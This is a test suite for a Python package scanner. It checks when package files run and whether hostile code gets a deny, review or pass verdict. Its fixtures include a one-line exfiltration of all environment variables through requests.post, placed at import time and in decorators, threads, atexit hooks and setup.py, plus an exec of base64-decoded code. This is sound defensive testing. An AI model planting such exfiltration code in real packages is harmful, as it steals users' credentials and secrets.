import assert from 'node:assert/strict';
import { backendFolders, innerPath, momentOf } from '../../../src/scanners/code/moments.js';
import { rules } from '../../../src/scanners/code/rules.js';
import { carrierFindings } from '../../../src/scanners/code/carriers/rules.js';
import { codeFindings } from '../../../src/scanners/code/findings.js';
import { moments, signalIds } from '../../../src/scanners/code/signals.js';
import { scanFiles, tierOf, describeFindings } from './scan.js';

describe('code: when a file runs', () => {
  const cases = [
    ['pkg/__init__.py', 'wheel', 'import'],
    ['pkg/tests/test_a.py', 'wheel', 'tests'],
    ['pkg/testing.py', 'wheel', 'import'],
    ['pkg/testing/__init__.py', 'wheel', 'import'],
    ['examples/__init__.py', 'wheel', 'import'],
    ['pkg/examples/a.py', 'wheel', 'tests'],
    ['conftest.py', 'wheel', 'tests'],
    ['setup.py', 'wheel', 'call'],
    ['sitecustomize.py', 'wheel', 'startup'],
    ['pkg-1.0.data/purelib/usercustomize.py', 'wheel', 'startup'],
    ['pkg/sitecustomize.py', 'wheel', 'import'],
    ['pkg-1.0/setup.py', 'sdist', 'install'],
    ['setup.py', 'tree', 'install'],
    ['pkg-1.0/src/pkg/__init__.py', 'sdist', 'import'],
    ['pkg-1.0/tests/setup.py', 'sdist', 'tests'],
  ] as const;
  for (const [path, form, expected] of cases) {
    it(`${path} of a ${form}: ${expected}`, () => {
      assert.equal(momentOf(path, { form, name: 'examples' }), expected);
    });
  }

  it('finds the folders of build backends', () => {
    assert.deepEqual(backendFolders('[build-system]\nbackend-path = [".", "./_build/", \'x\']\n'), [
      '',
      '_build',
      'x',
    ]);
    assert.deepEqual(backendFolders('[build-system]\n'), []);
  });

  it('knows what is below the folder of an sdist', () => {
    assert.equal(innerPath('a-1.0/src/a/b.py', 'sdist'), 'a/b.py');
    assert.equal(innerPath('a/b.py', 'wheel'), 'a/b.py');
  });
});

describe('code: moments decide', () => {
  const post = 'import os, requests\nrequests.post(os.environ["U"], json=dict(os.environ))\n';
  const inFunction =
    'import os, requests\ndef f():\n    requests.post(os.environ["U"], json=dict(os.environ))\n';
  const inMain =
    'import os, requests\nif __name__ == "__main__":\n    requests.post(os.environ["U"], json=dict(os.environ))\n';
  const table = [
    ['at import', { 'a/__init__.py': post }, 'wheel', 'deny'],
    ['in a function', { 'a/__init__.py': inFunction }, 'wheel', 'review'],
    ['in a function that is called', { 'a/__init__.py': `${inFunction}f()\n` }, 'wheel', 'deny'],
    [
      'in a function that an unused function calls',
      { 'a/__init__.py': `${inFunction}def g():\n    f()\n` },
      'wheel',
      'review',
    ],
    ['when it is the program', { 'a/__init__.py': inMain }, 'wheel', 'review'],
    ['in setup.py, when it is the program', { 'a-1/setup.py': inMain }, 'sdist', 'deny'],
    ['in a function of setup.py', { 'a-1/setup.py': inFunction }, 'sdist', 'deny'],
    [
      'in a class body',
      {
        'a/b.py':
          'import os, requests\nclass A:\n    requests.post(os.environ["U"], json=dict(os.environ))\n',
      },
      'wheel',
      'deny',
    ],
    [
      'in a default argument',
      {
        'a/b.py':
          'import os, requests\ndef f(x=requests.post(os.environ["U"], json=dict(os.environ))): pass\n',
      },
      'wheel',
      'deny',
    ],
    [
      'in a decorator',
      {
        'a/b.py':
          'import os, requests\n@requests.post(os.environ["U"], json=dict(os.environ))\ndef f(): pass\n',
      },
      'wheel',
      'deny',
    ],
    [
      'in a thread',
      { 'a/b.py': `${inFunction}import threading\nthreading.Thread(target=f).start()\n` },
      'wheel',
      'deny',
    ],
    ['at exit', { 'a/b.py': `${inFunction}import atexit\natexit.register(f)\n` }, 'wheel', 'deny'],
    ['in a stub', { 'a/b.pyi': post }, 'wheel', 'pass'],
  ] as const;
  for (const [title, files, form, tier] of table) {
    it(`${tier}: ${title}`, () => {
      const findings = scanFiles(files, form);
      assert.equal(tierOf(findings), tier, describeFindings(findings));
    });
  }
});

describe('code: rules', () => {
  it('speak of signals, moments and findings that there are', () => {
    const types = new Set<unknown>([...Object.values(codeFindings), ...carrierFindings]);
    for (const rule of rules) {
      assert.ok(signalIds.includes(rule.signal));
      assert.ok(types.has(rule.finding));
      assert.ok((rule.at ?? []).every((moment) => moments.includes(moment)));
    }
  });

  it('make every finding that there is', () => {
    const made = new Set(rules.map(({ finding }) => finding.id));
    assert.deepEqual(
      Object.values(codeFindings)
        .map(({ id }) => id)
        .filter((id) => !made.has(id)),
      [],
    );
  });

  it('make one finding for each file and kind: the worst', () => {
    const source = 'import subprocess\nsubprocess.run(["git", "status"])\nsubprocess.run(["./x"])\n';
    const findings = scanFiles({ 'a/__init__.py': source });
    assert.deepEqual(
      findings.map(({ id, where, severity }) => [id, where, severity]),
      [['code/import-time-process', 'a/__init__.py:3', 'medium']],
    );
  });

  it('show the line, how it was understood, and when it runs', () => {
    const [finding] = scanFiles({
      'a/__init__.py': 'import base64 as b\nx = exec\n\nx(b.b64decode("cHJpbnQoMSk="))\n',
    });
    assert.equal(finding?.where, 'a/__init__.py:4');
    assert.match(
      finding.evidence,
      /^x\(b\.b64decode\("cHJpbnQoMSk="\)\) ← builtins\.exec ← decoded .*\(runs when it is imported\)$/,
    );
  });
});
